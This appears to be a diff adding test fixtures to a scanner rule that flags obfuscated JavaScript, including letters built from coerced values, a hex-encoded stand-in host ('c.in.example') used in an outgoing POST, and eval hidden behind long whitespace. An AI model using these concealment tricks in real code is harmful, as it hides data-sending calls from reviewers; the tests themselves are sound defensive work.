@@ -6,6 +6,20 @@ const names = Array.from({ length: 14 }, (_, index) => `_0x${(4096 + index).toSt
 testRule(obfuscatedCode, {
   caught: [
     {
+      of: 'letters out of the names of values',
+      files: { 'a.js': 'b = { a: (![] + "")[1], o: ({} + "")[1], t: (!"" + "")[0] };\nb.a + b.o + b.t;\n' },
+      severity: 'critical',
+    },
+    {
+      of: 'an address out of numbers',
+      files: {
+        'a.js':
+          "const h = Buffer.from('632e696e2e6578616d706c65', 'hex').toString();\nrequire('http').request({ hostname: h, method: 'POST' }).end('x');\n",
+      },
+      severity: 'critical',
+      says: 'c.in.example',
+    },
+    {
       of: 'hexadecimal names',
       files: { 'a.js': names.map((name) => `var ${name}=1;`).join('') },
       severity: 'critical',
@@ -26,6 +40,10 @@ testRule(obfuscatedCode, {
     { of: 'code far to the right', files: { 'a.js': `const a = 1;${' '.repeat(200)}eval(b)\n` }, severity: 'critical' },
   ],
   silent: [
+    {
+      of: 'a digest',
+      files: { 'a.js': "const sum = 'd41d8cd98f00b204e9800998ecf8427e';\nfetch('https://api.example/' + sum);\n" },
+    },
     {
       of: 'minified code',
       files: {
